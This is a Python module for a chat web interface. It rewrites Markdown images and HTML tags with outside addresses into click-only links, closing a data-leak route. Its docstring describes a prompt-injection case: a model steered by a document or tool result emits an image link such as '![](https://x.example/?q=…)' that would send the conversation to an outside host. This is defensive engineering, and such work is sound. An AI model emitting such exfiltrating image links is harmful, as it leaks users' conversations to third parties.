"""Nothing the chat shows makes the browser fetch from outside this machine (no gradio).

A model that a document or a tool result can steer may write ``![](https://x.example/?q=…)``
or ``<img src=…>``: drawn as an image, the browser would send the conversation out. So
:func:`without_outside_images` rewrites the text of every chat message before it reaches
the page (:func:`shown_text`, through :func:`seedchat.ui.render.shown_message`, which the
builders of the chat's messages apply: the answer and thinking of :class:`~seedchat.ui.render.TurnView`
live or saved, a question with its files, a tool's card): each image or other fetched thing
whose address is outside the page (``http:``/``https:`` to any host, ``//host/x``, any
scheme but ``data:`` and ``blob:``) becomes a small link naming its host,
``image from x.example — open`` (a picture icon before it, drawn by the page's CSS), that
opens in a new tab only when clicked (``target="_blank" rel="noopener noreferrer"``, no
referrer). Links stay links; ``data:``
images (a tool's small images) and the page's own files still show.

What is rewritten, read as the page reads it (gradio's marked, then the browser's parser):

- Markdown images, inline (``![a](url "t")``, ``<url>``) and by reference (``![a][r]``,
  ``![a][]``, ``![a]`` with ``[r]: url`` anywhere in the text);
- HTML tags in any spelling (upper case, unquoted or entity-encoded values, ``/`` for a
  space) with an outside address in an attribute that fetches: ``src``, ``srcset`` (every
  candidate), ``href`` (of anything but ``<a>``/``<area>``: ``<link>``, SVG's ``<image>``,
  ``<use>``, ``xlink:href``), ``poster``, ``background``, ``data``, …; a ``style`` with
  ``url(…)``, ``image-set("…")`` or ``@import`` (comments and CSS escapes read); a
  ``<style>`` element's content; ``<meta content="0;url=…">``; ``srcdoc``.

Raw HTML is otherwise left to gradio's sanitizer, which takes out scripts, frames,
objects, event handlers and ``javascript:`` links, but keeps forms: a ``<form>``'s own tags
are dropped here (tests/test_ui_outside_images.py checks both in Chromium).

Code stays as written: a fenced or indented code block (found by markdown-it, as marked
finds them) and an inline code span on one line are shown as text by the page, so nothing
in them is fetched. They are found in the text as gradio hands it to marked: dedented
(:func:`shown_text`) and with its LaTeX blocks taken out (:func:`without_latex`), which
can hide a fence or a backtick. Where a reading could differ, the text is rewritten: a
changed code sample is the price of never guessing wrong. The page's
Content-Security-Policy (:mod:`seedchat.ui.csp`) blocks whatever this would miss.
"""

from __future__ import annotations

import functools
import html
import inspect
import re
from dataclasses import dataclass
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

#: Attributes whose value the browser fetches (an ``<a>``'s or ``<area>``'s ``href`` is a link).
URL_ATTRIBUTES = frozenset(
    [
        "src",
        "srcset",
        "imagesrcset",
        "href",
        "poster",
        "background",
        "data",
        "action",
        "formaction",
        "lowsrc",
        "dynsrc",
        "longdesc",
        "ping",
        "codebase",
        "archive",
        "classid",
        "icon",
        "manifest",
        "profile",
        "usemap",
    ]
)
SRCSET_ATTRIBUTES = frozenset({"srcset", "imagesrcset"})
LINK_TAGS = frozenset({"a", "area"})
KINDS = {
    "video": "video",
    "audio": "audio",
    "track": "video",
    "iframe": "embedded page",
    "frame": "embedded page",
    "object": "embedded page",
    "embed": "embedded page",
    "link": "linked file",
    "style": "stylesheet",
    "script": "script",
    "meta": "redirect",
    "source": "media",
}
#: The chat's LaTeX delimiters (``gr.Chatbot(latex_delimiters=…)``): gradio takes these
#: blocks out of a message before its Markdown is read, and gives them to KaTeX as text.
LATEX = [
    {"left": "$$", "right": "$$", "display": True},
    {"left": "\\(", "right": "\\)", "display": False},
    {"left": "\\[", "right": "\\]", "display": True},
]
_LATEX_BLOCK = "\ue000"  # one character where gradio puts "%%%LATEX_BLOCK_n%%%"
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_TAG_START = re.compile(r"<([A-Za-z][^\s/>\x00]*)")
_ATTRIBUTE = re.compile(r"([^\s/>][^\s/>=]*)")
_EQUALS = re.compile(r"\s*=\s*")
_VALUE = re.compile(r"\"([^\"]*)\"?|'([^']*)'?|([^\s>]*)")
_FORM_END = re.compile(r"(?i)</form(?=[\s/>])[^>]*>")
_BACKTICKS = re.compile(r"`+")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))  # what the URL parser trims off both ends
_BLANK_LINE = re.compile(r"\n[ \t]*(\n|$)")
_NEWLINE = re.compile(r"\r\n?|\n")  # lines as markdown-it (and marked) split them
_DEFINITION = re.compile(
    r"^[ \t>*+\-0-9.)]*\[((?:\\.|[^\\\[\]])+)\]:[ \t]*\n?[ \t]*(<[^>\n]*>|\S+)", re.MULTILINE
)
# blocks only: what is code is known before inline text is read
_MARKDOWN = MarkdownIt("commonmark").enable("table").disable(["inline", "text_join"])
_SPECIAL = re.compile(r"[\\`<!\]]")


# -- addresses ---------------------------------------------------------------------------


def outside_url(value: str) -> str | None:
    """``value`` (an attribute's value, entities and all) as the browser reads it, when
    fetching it would leave the page: any scheme but ``data:``/``blob:``, or ``//host``
    (``\\`` reads as ``/``); None for the page's own paths and anchors."""
    url = re.sub(r"[\t\n\r]", "", html.unescape(value)).strip(_C0_AND_SPACE)
    url = url.replace("\\", "/")
    if url.startswith("//"):
        return url
    scheme = _SCHEME.match(url)
    if scheme is None or scheme.group(1).lower() in ("data", "blob"):
        return None
    return url


def markdown_url(destination: str) -> str | None:
    """A Markdown destination (backslash escapes, entities, ``<…>``) as :func:`outside_url`."""
    destination = destination.strip()
    if destination.startswith("<") and destination.endswith(">"):
        destination = destination[1:-1]
    unescaped = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", destination)
    return outside_url(unescaped)


def host_of(url: str) -> str:
    """The host an outside address names, for the placeholder's words."""
    try:
        host = urlsplit("http:" + url if url.startswith("//") else url).hostname
    except ValueError:
        host = None
    return host or "another site"


def placeholder(url: str, kind: str = "image") -> str:
    """What stands for an outside image: a link naming its host, in a ``<span>`` (an HTML
    element that ends an SVG or MathML around it, so the link is an HTML one: drawn, and
    opened in a new tab). Only an ``http``/``https`` address is a link (never ``javascript:``)."""
    if not re.match(r"(?i)(https?:)?//", url):
        words = html.escape(f"{kind} not shown", quote=False)
        return f'<span class="outside-image">{words}</span>'
    words = html.escape(f"{kind} from {host_of(url)} — open", quote=False)
    href = html.escape(url.replace("|", "%7C").replace("`", "%60"), quote=True)
    return (
        f'<span class="outside-image"><a href="{href}" target="_blank" '
        f'rel="noopener noreferrer" referrerpolicy="no-referrer">{words}</a></span>'
    )


def srcset_urls(value: str) -> list[str]:
    """Every candidate's address in a ``srcset`` (a ``data:`` one holds commas)."""
    urls, pos, text = [], 0, html.unescape(value)
    while True:
        while pos < len(text) and (text[pos].isspace() or text[pos] == ","):
            pos += 1
        if pos >= len(text):
            return urls
        start = pos
        while pos < len(text) and not text[pos].isspace():
            pos += 1
        url = text[start:pos]
        urls.append(url.rstrip(","))
        if not url.endswith(","):  # descriptors up to the next comma
            while pos < len(text) and text[pos] != ",":
                pos += 1


def _css_unescape(css: str) -> str:
    def one(match: re.Match[str]) -> str:
        code = match.group(1)
        if code is None:
            return match.group(2)
        return chr(min(int(code, 16), 0x10FFFF) or 0xFFFD)

    return re.sub(r"\\(?:([0-9A-Fa-f]{1,6})\s?|(.))", one, css)


def css_urls(css: str) -> list[str]:
    """The addresses a piece of CSS fetches: ``url(…)`` and every string (``@import "…"``,
    ``image-set("…")``), comments and escapes read as the browser reads them."""
    css = _css_unescape(re.sub(r"/\*[\s\S]*?(\*/|$)", "", html.unescape(css)))
    found = [m.group(2) for m in re.finditer(r"(?i)url\(\s*(['\"]?)(.*?)\1\s*\)", css)]
    found += [m.group(2) for m in re.finditer(r"(['\"])(.*?)\1", css)]
    return found


# -- HTML tags ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Tag:
    """One start tag as the browser tokenizes it: its name and attributes, where it ends."""

    name: str
    attributes: list[tuple[str, str]]
    end: int  # just after its ``>``


def read_tag(text: str, start: int) -> Tag | None:
    """The start tag at ``text[start]`` (a ``<``), read as the HTML tokenizer reads one;
    None when it has no end (the browser drops such a tag)."""
    match = _TAG_START.match(text, start)
    if match is None:
        return None
    name, pos, attributes = match.group(1).lower(), match.end(), []
    while pos < len(text):
        while pos < len(text) and (text[pos].isspace() or text[pos] == "/"):
            pos += 1
        if pos >= len(text):
            return None
        if text[pos] == ">":
            return Tag(name, attributes, pos + 1)
        named = _ATTRIBUTE.match(text, pos)
        assert named is not None  # a character other than space, "/" or ">" is a name
        attribute, value, pos = named.group(1).lower(), "", named.end()
        equals = _EQUALS.match(text, pos)
        if equals is not None:
            quoted = _VALUE.match(text, equals.end())
            assert quoted is not None  # the last choice matches the empty string
            value, pos = next(g for g in quoted.groups() if g is not None), quoted.end()
        attributes.append((attribute.rpartition(":")[2], value))  # xlink:href → href
    return None


def fetched_urls(tag: Tag) -> list[str]:
    """The outside addresses the browser would fetch for ``tag``."""
    out: list[str] = []
    for attribute, value in tag.attributes:
        if attribute == "srcdoc":
            out.append("about:srcdoc")  # a page of its own, in an attribute: never shown
        elif attribute in SRCSET_ATTRIBUTES:
            out += srcset_urls(value)
        elif attribute in URL_ATTRIBUTES and not (attribute == "href" and tag.name in LINK_TAGS):
            out.append(value)
        elif attribute == "style":
            out += css_urls(value)
        elif attribute == "content" and tag.name == "meta":
            refresh = re.search(r"(?i)url\s*=\s*['\"]?([^'\"\s;]+)", html.unescape(value))
            out += [refresh.group(1)] if refresh else []
    return [url for url in (outside_url(v) for v in out) if url is not None]


def _tag_replacement(text: str, start: int) -> tuple[int, str | None]:
    """Where the tag at ``start`` ends, and what stands for it (None: it stays)."""
    end_tag = _FORM_END.match(text, start)
    if end_tag is not None:
        return end_tag.end(), ""
    tag = read_tag(text, start)
    if tag is None:
        return start + 1, None
    if tag.name == "form":  # gradio's sanitizer keeps forms: their controls stay, inert
        return tag.end, ""
    urls = fetched_urls(tag)
    end = tag.end
    if tag.name == "style":  # the element whole: its content is CSS
        close = re.compile(r"(?i)</style").search(text, end)
        end = text.find(">", close.end()) + 1 if close else len(text)
        end = end or len(text)
        css = text[tag.end : close.start() if close else len(text)]
        urls += [u for u in (outside_url(c) for c in css_urls(css)) if u is not None]
    if not urls:
        return tag.end, None
    return end, placeholder(urls[0], KINDS.get(tag.name, "image"))


# -- Markdown ----------------------------------------------------------------------------


def _label(text: str) -> str:
    return " ".join(text.split()).casefold()


def outside_definitions(text: str) -> dict[str, str]:
    """Reference definitions (``[r]: url``) whose address is outside, by label."""
    found: dict[str, str] = {}
    for match in _DEFINITION.finditer(text):
        url = markdown_url(match.group(2))
        if url is not None:
            found.setdefault(_label(match.group(1)), url)
    return found


def _code_span_end(text: str, start: int) -> int | None:
    """Where the code span opening at ``text[start]`` (a run of backticks) ends, when it
    closes on the same line; None when it does not."""
    run = _BACKTICKS.match(text, start)
    assert run is not None
    line_end = text.find("\n", start)
    line_end = len(text) if line_end < 0 else line_end
    for closer in _BACKTICKS.finditer(text, run.end(), line_end):
        if len(closer.group(0)) == len(run.group(0)):
            return closer.end()
    return None


def _closing(text: str, pos: int, opener: str, closer: str, spans: bool = True) -> int | None:
    """The index of the ``closer`` that balances an ``opener`` just before ``pos``
    (escapes skipped, and same-line code spans when ``spans``), within one paragraph."""
    depth = 1
    while pos < len(text):
        char = text[pos]
        if char == "\\":
            pos += 2
            continue
        if char == "`" and spans:
            pos = _code_span_end(text, pos) or _run_end(text, pos)
            continue
        if char == "\n" and _BLANK_LINE.match(text, pos):
            return None
        depth += (char == opener) - (char == closer)
        if depth == 0:
            return pos
        pos += 1
    return None


def _run_end(text: str, pos: int) -> int:
    run = _BACKTICKS.match(text, pos)
    assert run is not None
    return run.end()


def _destination(text: str, paren: int) -> tuple[str, int] | None:
    """An inline image's address and where it ends, ``text[paren]`` being its ``(``."""
    inner = paren + 1
    while inner < len(text) and text[inner] in " \t\n":
        inner += 1
    if text.startswith("<", inner) and ">" in text[inner:]:
        bracketed = text.index(">", inner)
        close = _closing(text, bracketed + 1, "(", ")", spans=False)
        return (text[inner : bracketed + 1], close + 1) if close is not None else None
    close = _closing(text, inner, "(", ")", spans=False)
    if close is None:
        return None
    parts = text[inner:close].split()
    return (parts[0] if parts else "", close + 1)


def _image_replacement(
    text: str, start: int, definitions: dict[str, str]
) -> tuple[int, str | None]:
    """Where the Markdown image at ``start`` (``![``) ends and what stands for it, when its
    address is outside; else (just after ``![``, None)."""
    alt_end = _closing(text, start + 2, "[", "]")
    if alt_end is None:
        return start + 2, None
    after = alt_end + 1
    if text.startswith("(", after):
        inline = _destination(text, after)
        url = markdown_url(inline[0]) if inline else None
        if inline is not None and url is not None:
            return inline[1], placeholder(url)
    label, end = text[start + 2 : alt_end], after
    if text.startswith("[", after):
        ref_end = _closing(text, after + 1, "[", "]")
        if ref_end is not None:
            label, end = text[after + 1 : ref_end] or label, ref_end + 1
    url = definitions.get(_label(label))
    if url is not None:
        return end, placeholder(url)
    return start + 2, None


Region = tuple[int, int]  # (start, end) offsets in a text


def _scan(
    text: str, definitions: dict[str, str], spans: bool, skip: list[Region] = ()
) -> tuple[list[tuple[int, int, str]], list[Region]]:
    """Outside images to replace in ``text`` (start, end, what stands for it), and its code
    spans when ``spans``; read from left to right as marked reads it: escapes, code spans,
    tags, images, whichever starts first. A backtick inside a tag or a link's address opens
    no code span (``literal``). The ``skip`` regions (code) are passed over."""
    out, found, pos, literal = [], [], 0, 0
    skips = iter(sorted(skip))
    region = next(skips, None)
    while pos < len(text):
        special = _SPECIAL.search(text, pos)  # the characters that can start something
        if special is None:
            break
        pos = special.start()
        while region is not None and region[1] <= pos:
            region = next(skips, None)
        if region is not None and region[0] <= pos:
            pos = region[1]
            continue
        char, end, replacement = text[pos], pos + 1, None
        if char == "\\":
            end = pos + 2
        elif char == "`":
            span = _code_span_end(text, pos) if spans and pos >= literal else None
            end = span or _run_end(text, pos)
            found += [(pos, span)] if span else []
        elif char == "<":
            tag_end, replacement = _tag_replacement(text, pos)
            if replacement is None:  # a tag that stays: its inside is read for images too
                literal = max(literal, tag_end)
            else:
                end = tag_end
        elif text.startswith("![", pos):
            end, replacement = _image_replacement(text, pos, definitions)
        elif text.startswith("](", pos):
            literal = max(literal, _closing(text, pos + 2, "(", ")", spans=False) or pos)
        if replacement is not None:
            out.append((pos, end, replacement))
        pos = end
    return out, found


def without_latex(text: str) -> tuple[str, list[Region]]:
    """``text`` as gradio hands it to marked: each LaTeX block (:data:`LATEX`'s delimiters,
    one after the other) taken out, here one character in its place; and for each character
    of that, the region of ``text`` it stands for (none when there is no LaTeX)."""
    if not any(d["left"] in text for d in LATEX):
        return text, []  # (no block: each character stands for itself)
    regions = [(i, i + 1) for i in range(len(text))]
    for delimiters in LATEX:
        left, right = re.escape(delimiters["left"]), re.escape(delimiters["right"])
        cut, kept, done = [], [], 0
        for match in re.finditer(f"{left}([\\s\\S]+?){right}", text):
            cut.append(text[done : match.start()])
            kept += regions[done : match.start()]
            cut.append(_LATEX_BLOCK)
            kept.append((regions[match.start()][0], regions[match.end() - 1][1]))
            done = match.end()
        text, regions = "".join(cut) + text[done:], kept + regions[done:]
    return text, regions


def code_blocks(text: str) -> list[Region]:
    """The fenced and indented code blocks of ``text`` as (start, end) offsets, as
    markdown-it (CommonMark, like marked) reads them."""
    starts = [0] + [m.end() for m in _NEWLINE.finditer(text)] + [len(text)]
    blocks = []
    for token in _MARKDOWN.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            first, last = token.map
            blocks.append((starts[first], starts[min(last, len(starts) - 1)]))
    return blocks


def code_regions(text: str) -> list[Region]:
    """What the page shows as code in ``text`` (blocks, and spans on one line), read as
    gradio reads it (its LaTeX taken out first), as regions of ``text``."""
    plain, regions = without_latex(text)
    blocks = [b for b in code_blocks(plain) if b[1] > b[0]]
    code = blocks + _scan(plain, {}, spans=True, skip=blocks)[1]
    if not regions:
        return code
    return [(regions[start][0], regions[end - 1][1]) for start, end in code]


def without_outside_images(text: str) -> str:
    """``text`` (a chat message's Markdown) with every outside image replaced by a link
    naming its host (see the module doc); text with none comes back as it was."""
    if "<" not in text and "![" not in text:
        return text
    code = code_regions(text)
    replacements, _ = _scan(text, outside_definitions(text), spans=False, skip=code)
    out, done = [], 0
    for start, end, replacement in replacements:
        out += [text[done:start], replacement]
        done = end
    out.append(text[done:])
    return "".join(out)


@functools.lru_cache(maxsize=256)  # a streamed turn shows its earlier parts again and again
def shown_text(text: str) -> str:
    """``text`` as the page's Chatbot may be given it: no outside image in what it will
    show. gradio first dedents a message (``inspect.cleandoc``), which can change what is
    code; so a text whose dedented form holds none is given as it is, and another one is
    dedented and rewritten until both leave it as it is."""
    if "<" not in text and "![" not in text:
        return text
    clean = inspect.cleandoc(text)
    if without_outside_images(clean) == clean:
        return text
    for _ in range(4):
        text = without_outside_images(clean)
        if text == clean:
            break
        clean = inspect.cleandoc(text)
    return text
